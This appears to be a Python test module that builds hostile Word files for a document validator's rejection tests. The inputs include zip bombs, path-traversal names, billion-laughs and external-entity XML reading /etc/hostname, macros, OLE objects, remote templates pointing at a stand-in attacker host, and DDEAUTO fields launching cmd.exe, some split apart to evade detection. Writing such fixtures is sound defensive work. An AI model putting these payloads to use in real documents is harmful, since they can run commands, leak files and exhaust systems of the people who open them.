"""Files that must never be let in, each with the reason that is given; made from the good Dutch template."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from random import Random
from typing import Final

from tests.report.house.dutch import (
    OFFICE,
    R,
    changed,
    dutch_parts,
    dutch_template,
    paragraph,
    png,
    relations,
    zipped,
)

Maker = Callable[[], bytes]
randbytes = Random(4).randbytes
DOCUMENT: Final = "word/document.xml"
RELATIONS: Final = "word/_rels/document.xml.rels"
TYPES: Final = "[Content_Types].xml"
BODY: Final = "<w:body>"


def in_body(xml: str) -> bytes:
    """The good template with this at the start of its body."""
    return zipped(changed(dutch_parts(), DOCUMENT, BODY, BODY + xml))


def field(*pieces: str) -> bytes:
    """A field whose code is cut into these pieces."""
    runs = "".join(f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in pieces)
    return in_body(f"<w:p>{mark('begin')}{runs}{mark('separate')}<w:r><w:t>x</w:t></w:r>{mark('end')}</w:p>")


def mark(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def made_up_field() -> bytes:
    """A field whose name another field makes up."""
    inner = f"{mark('begin')}<w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r>{mark('end')}"
    return in_body(f"<w:p>{mark('begin')}{inner}<w:r><w:instrText> cmd</w:instrText></w:r>{mark('end')}</w:p>")


def half_made_up_field() -> bytes:
    """A field whose name begins as text and goes on in another field."""
    inner = f"{mark('begin')}<w:r><w:instrText>QUOTE 68 69</w:instrText></w:r>{mark('end')}"
    return in_body(f"<w:p>{mark('begin')}<w:r><w:instrText>D</w:instrText></w:r>{inner}{mark('end')}</w:p>")


def outside(kind: str, target: str, part: str = RELATIONS) -> bytes:
    """The good template with a relation to something outside."""
    line = f'<Relationship Id="rId99" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'
    parts = dutch_parts()
    if part not in parts:
        parts[part] = relations(outside=line).encode()
        return zipped(parts)
    return zipped(changed(parts, part, "</Relationships>", f"{line}</Relationships>"))


def inside(kind: str, name: str, data: bytes = b"x") -> bytes:
    """The good template with a part of its own hanging on the body."""
    line = f'<Relationship Id="rId98" Type="{kind}" Target="{name}"/>'
    parts = {**changed(dutch_parts(), RELATIONS, "</Relationships>", f"{line}</Relationships>"), f"word/{name}": data}
    return zipped(parts)


def typed(old: str, new: str) -> bytes:
    return zipped(changed(dutch_parts(), TYPES, old, new))


def with_part(name: str, data: bytes) -> bytes:
    return zipped({**dutch_parts(), name: data})


def doubled() -> bytes:
    """Two members whose names differ in capitals only."""
    return zipped({**dutch_parts(), "WORD/Document.xml": b"<x/>"})


def encrypted() -> bytes:
    """The flag of encryption set on every member."""
    data = bytearray(dutch_template())
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        data[at + 8] |= 1
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(data)


def liar() -> bytes:
    """A member of 200 MB of blanks whose size in the directory says 10 bytes."""
    squeezed = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = squeezed.compress(b" " * 200_000_000) + squeezed.flush()
    return by_hand(DOCUMENT, data, 10)


def by_hand(name: str, data: bytes, size: int) -> bytes:
    """A zip file with one deflated member, as its directory would have it."""
    raw = name.encode()
    fixed = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 0, 0, len(data), size, len(raw), 0)
    local = b"PK\x03\x04" + fixed + raw + data
    entry = b"PK\x01\x02" + struct.pack("<H", 20) + fixed + struct.pack("<HHHII", 0, 0, 0, 0, 0) + raw
    return local + entry + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(entry), len(local), 0)


def big_zip(sizes: dict[str, int]) -> bytes:
    """The good template with members of blanks of these sizes."""
    buffer = io.BytesIO(dutch_template())
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
        for name, size in sizes.items():
            archive.writestr(name, b" " * size)
    return buffer.getvalue()


def many_members() -> bytes:
    buffer = io.BytesIO(dutch_template())
    with zipfile.ZipFile(buffer, "a") as archive:
        for at in range(600):
            archive.writestr(f"word/media/{at}.png", b"")
    return buffer.getvalue()


def overlapping() -> bytes:
    """Hundreds of names for one and the same member: a bomb without a big member."""
    squeezed = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = squeezed.compress(b" " * 4_000_000) + squeezed.flush()
    raw = b"a"
    fixed = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 0, zlib.crc32(b" " * 4_000_000), len(data), 4_000_000, 1, 0)
    local = b"PK\x03\x04" + fixed + raw + data
    entry = b"PK\x01\x02" + struct.pack("<H", 20) + fixed + struct.pack("<HHHII", 0, 0, 0, 0, 0) + raw
    return (
        local + entry * 400 + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 400, 400, len(entry) * 400, len(local), 0)
    )


def document(xml: str) -> bytes:
    return zipped({**dutch_parts(), DOCUMENT: xml.encode()})


def laughs(part: str = DOCUMENT) -> bytes:
    """A billion laughs in one part."""
    lines = "".join(f'<!ENTITY a{at} "{f"&a{at - 1};" * 10}">' for at in range(1, 10))
    return zipped({**dutch_parts(), part: f'<!DOCTYPE x [<!ENTITY a0 "ha">{lines}]><x>&a9;</x>'.encode()})


def strict() -> bytes:
    parts = dutch_parts()
    for name in ("_rels/.rels", RELATIONS):
        parts[name] = parts[name].replace(OFFICE.encode(), b"http://purl.oclc.org/ooxml/officeDocument/relationships")
    return zipped(parts)


def huge_picture() -> bytes:
    """A picture of 100,000 by 100,000 dots in a few bytes."""
    head = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0)
    return with_part("word/media/logo.png", b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + head)


def chain() -> bytes:
    """A hundred headers, each hanging on the one before."""
    parts = dutch_parts()
    for at in range(100):
        parts[f"word/h{at}.xml"] = parts["word/header.xml"]
        name = "word/_rels/header.xml.rels" if at == 0 else f"word/_rels/h{at - 1}.xml.rels"
        before = [(f"{OFFICE}/image", "media/logo.png")] if at == 0 else []
        parts[name] = relations(*before, (f"{OFFICE}/header", f"h{at}.xml")).encode()
    return zipped(parts)


OLE: Final = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
MACRO: Final = "application/vnd.ms-word.document.macroEnabled.main+xml"
MAIN: Final = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
VBA: Final = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"

HOSTILE: Final[dict[str, tuple[str, Maker]]] = {
    "nothing": ("not_zip", lambda: b""),
    "plain text": ("not_zip", lambda: b"Beste klant," * 100),
    "a picture": ("not_zip", lambda: dutch_parts()["word/media/logo.png"]),
    "a zip of something else": ("not_word", lambda: zipped({"brief.txt": b"hallo"})),
    "a workbook": ("not_word", lambda: typed("wordprocessingml.document.main", "spreadsheetml.sheet.main")),
    "an old .doc": ("old_word", lambda: OLE + b"\0" * 2000),
    "a password": ("encrypted", lambda: OLE + b"\0" * 500 + "EncryptedPackage".encode("utf-16-le")),
    "a password of zip": ("encrypted", encrypted),
    "too big": ("too_big", lambda: dutch_template() + b"\0" * 11_000_000),
    "too many members": ("too_many_parts", many_members),
    "a bomb": ("bomb", lambda: big_zip({"word/media/a.png": 300_000_000})),
    "a bomb in pieces": ("bomb", lambda: big_zip({f"word/media/{at}.png": 15_000_000 for at in range(9)})),
    "a bomb that lies about its size": ("damaged", liar),
    "a bomb of overlapping members": ("twice", overlapping),
    "half a file": ("damaged", lambda: dutch_template()[:-15]),
    "a way out of the folder": ("bad_name", lambda: with_part("../../boze.xml", b"<x/>")),
    "a name from the root": ("bad_name", lambda: with_part("/etc/boze.xml", b"<x/>")),
    "a name of a disk": ("bad_name", lambda: with_part("c:\\boze.xml", b"<x/>")),
    "a double name": ("twice", doubled),
    "entities in the body": ("entities", laughs),
    "entities in the theme": ("entities", lambda: laughs("word/theme.xml")),
    "an outside entity": (
        "entities",
        lambda: document('<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/hostname">]><x>&y;</x>'),
    ),
    "entities in sixteen bits": (
        "entities",
        lambda: zipped({**dutch_parts(), DOCUMENT: '<!DOCTYPE x [<!ENTITY y "z">]><x>&y;</x>'.encode("utf-16")}),
    ),
    "entities in a relations part": ("entities", lambda: laughs(RELATIONS)),
    "malformed XML": ("bad_xml", lambda: document("<w:document><w:body>")),
    "XML in a strange encoding": ("bad_xml", lambda: document('<?xml version="1.0" encoding="cp037"?><x/>')),
    "XML too deep": ("bad_xml", lambda: document("<a>" * 5000 + "</a>" * 5000)),
    "XML without end": (
        "too_complicated",
        lambda: in_body("".join(f'<w:p w:rsidR="{at * 7919:08X}"/>' for at in range(90_000))),
    ),
    "attributes without end": (
        "too_complicated",
        lambda: in_body("<w:p " + " ".join(f'a{at}=""' for at in range(400_000)) + "/>"),
    ),
    "macros by type": ("macros", lambda: typed(MAIN, MACRO)),
    "macros by part": ("macros", lambda: with_part("word/vbaProject.bin", OLE)),
    "macros by relation": ("macros", lambda: inside(VBA, "iets.dat")),
    "ActiveX": ("active", lambda: with_part("word/activeX/activeX1.xml", b"<x/>")),
    "a control in the text": ("active", lambda: in_body(f'<w:p><w:r><w:control {R} r:id="rId1"/></w:r></w:p>')),
    "an embedded object": ("ole", lambda: with_part("word/embeddings/oleObject1.bin", OLE)),
    "an object by relation": ("ole", lambda: inside(f"{OFFICE}/oleObject", "iets.dat")),
    "another document (altChunk)": ("embedded", lambda: in_body(f'<w:altChunk {R} r:id="rId1"/>')),
    "another document by relation": ("embedded", lambda: inside(f"{OFFICE}/aFChunk", "deel.html", b"<p>")),
    "a subdocument": ("embedded", lambda: outside("subDocument", "file:///c:/brief.docx")),
    "a frame": ("embedded", lambda: outside("frame", "https://kwaad.example/")),
    "a linked template": (
        "linked_template",
        lambda: outside("attachedTemplate", "https://kwaad.example/x.dotm", "word/_rels/settings.xml.rels"),
    ),
    "a picture from outside": ("linked", lambda: outside("image", "https://kwaad.example/pixel.png")),
    "an object from outside": ("ole", lambda: outside("oleObject", "https://kwaad.example/x")),
    "a link into a network": ("linked", lambda: outside("hyperlink", "\\\\server\\deel\\x.docx")),
    "a link to a file": ("linked", lambda: outside("hyperlink", "file:///c:/windows/x.exe")),
    "a link that is a script": ("linked", lambda: outside("hyperlink", "javascript:alert(1)")),
    "a font from outside": ("linked", lambda: outside("font", "https://kwaad.example/f", "word/_rels/header.xml.rels")),
    "a missing part": (
        "part_missing",
        lambda: zipped({**dutch_parts(), RELATIONS: relations((f"{OFFICE}/styles", "weg.xml")).encode()}),
    ),
    "DDE": ("field", lambda: field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')),
    "DDE cut into pieces": ("field", lambda: field(" D", "D", "E cmd ")),
    "DDE in a simple field": ("field", lambda: in_body('<w:p><w:fldSimple w:instr="dde cmd x"/></w:p>')),
    "DDE in a header": (
        "field",
        lambda: zipped(changed(dutch_parts(), "word/footer.xml", " PAGE ", " DDE cmd ")),
    ),
    "a field named by a field": ("field", made_up_field),
    "a field half named by a field": ("field", half_made_up_field),
    **{
        f"the field {name}": ("field", lambda name=name: field(f' {name} "https://kwaad.example/x" '))  # type: ignore[misc]
        for name in ("INCLUDETEXT", "INCLUDEPICTURE", "LINK", "IMPORT", "MACROBUTTON", "DATABASE", "RD")
    },
    "a link to a file in a field": ("linked", lambda: field(' HYPERLINK "file:///c:/x.exe" ')),
    "Strict Open XML": ("strict", strict),
    "a margin that is no number": (
        "damaged",
        lambda: zipped(changed(dutch_parts(), DOCUMENT, 'w:top="1985"', 'w:top="veel"')),
    ),
    "a header that is no header": ("damaged", lambda: with_part("word/header.xml", b"<x/>")),
    "a huge picture": ("picture", huge_picture),
    "a chain of parts": ("damaged", chain),
}


def many_fields(end: str, count: int) -> str:
    """A paragraph of fields, each with a code of its own."""
    codes = (f"<w:r><w:instrText>PAGE {at * 7919:x} </w:instrText></w:r>" for at in range(count))
    return "<w:p>" + "".join(mark("begin") + code + end for code in codes) + "</w:p>"


HEAVY: Final[dict[str, Maker]] = {
    "as many tags as may be": lambda: in_body("".join(f'<w:p w:rsidR="{at * 7919:08X}"/>' for at in range(47_000))),
    "as many attributes as may be": lambda: in_body(
        "".join(
            f'<w:p w:rsidR="{at * 7919:08X}" w:rsidP="{at * 99991:08X}" w:rsidRPr="{at:X}" w:rsidDel="{at * 31:X}"/>'
            for at in range(28_000)
        )
    ),
    "as much text as may be": lambda: in_body(paragraph(*(f"{at * 104729:x}" for at in range(11_000)))),
    "as large as may be": lambda: with_part("word/media/logo.png", png() + randbytes(9_500_000)),
    "as much unpacked as may be": lambda: with_part("word/media/logo.png", png() + randbytes(20_000) * 900),
    "as many fields as may be": lambda: in_body(many_fields(mark("end"), 4_500)),
    "fields that never end": lambda: in_body(many_fields("", 7_500)),
    "as many placeholders as may be": lambda: in_body(paragraph(*(f"{{{{x{at}}}}}" for at in range(11_000)))),
    "as many bookmarks as may be": lambda: in_body(
        "".join(f'<w:bookmarkStart w:id="{at}" w:name="k{at}"/><w:bookmarkEnd w:id="{at}"/>' for at in range(23_000))
    ),
}
"""Files that ask for as much work as is allowed; what is said about them does not matter, how long it takes does."""
